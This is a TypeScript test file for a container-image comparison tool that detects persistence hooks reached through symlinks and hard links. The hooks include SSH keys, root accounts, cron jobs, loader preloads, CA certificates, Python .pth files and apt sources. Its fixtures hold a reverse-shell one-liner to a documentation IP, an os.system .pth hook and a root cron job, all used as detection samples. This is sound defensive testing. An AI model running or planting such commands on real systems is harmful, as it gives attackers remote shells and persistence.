import { describe, expect, test } from 'vitest';
import { InvalidInput } from '../../core/error.ts';
import type { Written } from '../reading/tar.fixture.ts';
import { image, type Made } from './compare.fixture.ts';
import { compare } from './compare.ts';

const SIGNAL = AbortSignal.timeout(60_000);
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 me@laptop.example\n';
const KEYS = 'root/.ssh/authorized_keys';
const JOB = '* * * * * root /opt/x\n';
const DER = Buffer.concat([Buffer.from([0x30, 0x82, 1, 0, 6, 3, 0x55, 4, 3, 12, 4]), Buffer.from('Evil')]);
const PEM = `-----BEGIN CERTIFICATE-----\n${DER.toString('base64')}\n-----END CERTIFICATE-----\n`;
const PASSWD = 'root:x:0:0::/root:/bin/sh\n';
const SITE = 'usr/lib/python3.13/site-packages';

const file = (name: string, data: string): Written => ({ name, data });
const link = (name: string, to: string): Written => ({ name, type: '2', link: to });
const hard = (name: string, to: string): Written => ({ name, type: '1', link: to });
const layer = (...entries: readonly Written[]): Made => ({ entries });

/** By kind, variant and path, and how often each layer was read. */
async function told(old: readonly Made[], now: readonly Made[]) {
  const [before, after] = [image(old), image(now)];
  const { comparison } = await compare({ old: before, new: after }, { signal: SIGNAL });
  const reads = now.map((_, index) => [...before.asked, ...after.asked].filter((one) => one === index).length);
  const seen = comparison.seen.map(({ kind, variant, path }) => [kind, variant, path].filter(Boolean).join(' '));
  return { seen, reads, isComplete: comparison.isComplete, comparison };
}

const BASE = layer(file('etc/passwd', PASSWD), file('opt/data', 'x'));

describe('what links bring to a place is judged as what lies there', () => {
  test.each<readonly [string, readonly Made[], string]>([
    ['keys by a link', [layer(link(KEYS, '/opt/k'), file('opt/k', KEY))], `ssh-key /${KEYS}`],
    ['keys by a hard link', [layer(file('opt/k', KEY), hard(KEYS, 'opt/k'))], `ssh-key /${KEYS}`],
    ['a folder of keys', [layer(link('root/.ssh', '/opt/d'), file('opt/d/authorized_keys', KEY))], `ssh-key /${KEYS}`],
    [
      'keys by a link in another layer, and bytes in a third',
      [layer(file('opt/k', 'x')), layer(link(KEYS, '../../opt/k')), layer(file('opt/k', KEY))],
      `ssh-key /${KEYS}`,
    ],
    [
      'keys of another user',
      [layer(file('home/x/.ssh/authorized_keys', KEY), link('root/.ssh', '/home/x/.ssh'))],
      `ssh-key /${KEYS}`,
    ],
    [
      'keys by links to links',
      [layer(link(KEYS, '/a'), link('a', '/b'), link('b', '/opt/k')), layer(file('opt/k', KEY))],
      `ssh-key /${KEYS}`,
    ],
    [
      'a second root by a link',
      [layer(link('etc/passwd', '/opt/pw'), file('opt/pw', `${PASSWD}toor:x:0:0::/:/bin/sh\n`))],
      'account-changed uid-0 /opt/pw',
    ],
    [
      'a password by a link',
      [layer(link('etc/shadow', '../opt/s'), file('opt/s', 'root:$6$a$b:1::::::\n'))],
      'account-changed password /opt/s',
    ],
    [
      'a job by a link',
      [layer(link('etc/cron.d/x', '/opt/job'), file('opt/job', JOB))],
      'scheduled-task /etc/cron.d/x',
    ],
    [
      'a job by a hard link, its first name removed',
      [layer(file('opt/job', JOB), hard('etc/cron.d/x', 'opt/job')), layer(file('opt/.wh.job', ''))],
      'scheduled-task /etc/cron.d/x',
    ],
    [
      'libraries for all programs',
      [layer(link('etc/ld.so.preload', '/opt/p'), file('opt/p', '/opt/libx.so\n'))],
      'loader-hook /etc/ld.so.preload',
    ],
    [
      'a folder of libraries',
      [layer(link('etc/ld.so.conf.d', '/opt/c'), file('opt/c/x.conf', '/opt/lib\n'))],
      'loader-hook folders /etc/ld.so.conf.d/x.conf',
    ],
    [
      'an authority by a link',
      [layer(link('etc/ssl/certs/a.0', '/opt/ca'), file('opt/ca', PEM))],
      'certificate-authority /etc/ssl/certs/a.0',
    ],
    [
      'a folder of authorities',
      [layer(file('opt/c/ca.pem', PEM)), layer(link('etc/ssl/certs', '/opt/c'))],
      'certificate-authority /etc/ssl/certs/ca.pem',
    ],
    [
      'an authority by a hard link',
      [layer(file('opt/ca', PEM), hard('usr/local/share/ca-certificates/x.crt', 'opt/ca'))],
      'certificate-authority /usr/local/share/ca-certificates/x.crt',
    ],
    [
      'what Python runs',
      [layer(link(SITE, '/opt/u'), file('opt/u/x.pth', 'import os;os.system("x")\n'))],
      `import-hook pth /${SITE}/x.pth`,
    ],
    [
      'what a shell runs, with a sign in it',
      [layer(link('etc/profile.d/x.sh', '/opt/p'), file('opt/p', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n'))],
      'known-sign reverse-shell /etc/profile.d/x.sh',
    ],
    [
      'a source of packages',
      [layer(link('etc/apt/sources.list', '/opt/s'), file('opt/s', 'deb http://192.0.2.9/debian x main\n'))],
      'package-source /etc/apt/sources.list',
    ],
    [
      'a hook that a later layer takes away',
      [layer(file('opt/k', KEY), hard(KEYS, 'opt/k')), layer(file('root/.ssh/.wh.authorized_keys', ''))],
      `hidden-below ssh-key /${KEYS}`,
    ],
  ])('%s', async (_, layers, expected) => {
    const { seen, isComplete, reads } = await told([BASE], [BASE, ...layers]);
    expect(seen).toContain(expected);
    expect(seen.filter((one) => one.startsWith('unreadable'))).toEqual([]);
    expect(isComplete).toBe(true);
    expect(Math.max(...reads)).toBeLessThanOrEqual(2);
  });

  test('a file that a link of a shared layer leads to, changed', async () => {
    const shared = layer(link('etc/cron.d/x', '/opt/job'), file('opt/job', '0 1 * * * root /bin/true\n'));
    const { seen, comparison } = await told([BASE, shared], [BASE, shared, layer(file('opt/job', JOB))]);
    expect(seen).toEqual(['scheduled-task /etc/cron.d/x']);
    expect(comparison.seen).toMatchObject([{ layer: 2, before: 'nothing' }]);
  });

  test('a link on the way to a file, changed, both files in shared layers', async () => {
    const shared = layer(
      link('etc/cron.d/x', '/a'),
      link('a', '/opt/one'),
      file('opt/one', '#\n'),
      file('opt/two', JOB),
    );
    const { comparison } = await told([BASE, shared], [BASE, shared, layer(link('a', '/opt/two'))]);
    expect(comparison.seen).toMatchObject([{ kind: 'scheduled-task', path: '/etc/cron.d/x', layer: 2 }]);
  });

  test('a link into a shared layer that was left out', async () => {
    const beside: Made = { entries: [file('srv/k', KEY)], createdBy: 'COPY data /srv # buildkit' };
    const { seen, reads } = await told([BASE, beside], [BASE, beside, layer(link(KEYS, '/srv/k'))]);
    expect(seen).toEqual([`ssh-key /${KEYS}`]);
    expect(reads).toEqual([1, 2, 1]);
  });
});

describe('and nothing else is', () => {
  test('the same link to the same file in both images', async () => {
    const both = layer(
      link(KEYS, '/opt/k'),
      file('opt/k', KEY),
      link('etc/ssl/certs/a.0', '/opt/ca'),
      file('opt/ca', PEM),
    );
    const { seen } = await told([BASE, both], [BASE, layer(file('srv/x', 'x')), both]);
    expect(seen).toEqual([]);
  });

  test('a list of jobs by a link that is a comment only', async () => {
    const { seen } = await told([BASE], [BASE, layer(link('etc/cron.d/x', '/opt/job'), file('opt/job', '# none\n'))]);
    expect(seen).toEqual([]);
  });

  test('layers in which nothing is wanted, or links stay within their place, are read once', async () => {
    const plain = layer(
      link('etc/ssl/certs/a.0', 'a.pem'),
      file('etc/ssl/certs/a.pem', PEM),
      link('etc/resolv.conf', '../run/resolv.conf'),
      file('opt/job', JOB),
    );
    const { reads, isComplete } = await told([BASE], [BASE, plain]);
    expect(reads).toEqual([1, 1]);
    expect(isComplete).toBe(true);
  });
});

describe('what cannot be looked into is said', () => {
  test('when the layer is not to be had a second time', async () => {
    const now = image([BASE, layer(link(KEYS, '/opt/k'), file('opt/k', KEY))]);
    const once = {
      ...now,
      listing: (...[number, hashes, look]: Parameters<typeof now.listing>) =>
        look?.wanted ? Promise.reject(new InvalidInput('blob', 'has another digest')) : now.listing(number, hashes),
    };
    const { comparison } = await compare({ old: image([BASE]), new: once }, { signal: SIGNAL });
    expect(comparison.isComplete).toBe(false);
    expect(comparison.unread).toMatchObject([
      { layer: 1, reason: expect.stringContaining('another digest') },
      { path: `/${KEYS}` },
    ]);
  });

  test('more files than are looked into, authorities among them', async () => {
    const many = Array.from({ length: 10_100 }, (_, index) => [
      file(`opt/${index}`, PEM),
      hard(`etc/ssl/certs/${index}.0`, `opt/${index}`),
    ]).flat();
    const { comparison, reads } = await told([BASE], [BASE, layer(...many)]);
    expect(comparison.isComplete).toBe(false);
    expect(comparison.unread[0]).toMatchObject({ reason: expect.stringContaining('under another name') });
    expect(reads).toEqual([1, 2]);
  });

  test('a file that is longer than is kept', async () => {
    const long = layer(link(KEYS, '/opt/k'), file('opt/k', `${'#'.repeat(1024 * 1024)}\n${KEY}`));
    const { comparison } = await told([BASE], [BASE, long]);
    expect(comparison.unread).toMatchObject([{ path: '/opt/k', reason: expect.stringContaining('longer') }]);
  });

  test('but no large program that a link calls a service', async () => {
    const large = layer(link('etc/init.d/x', '/opt/x/bin'), file('opt/x/bin', `#!/bin/sh\n${'#'.repeat(1024 * 1024)}`));
    const { seen, isComplete } = await told([BASE], [BASE, large]);
    expect(seen).toContain('service-unit /etc/init.d/x');
    expect(isComplete).toBe(true);
  });
});
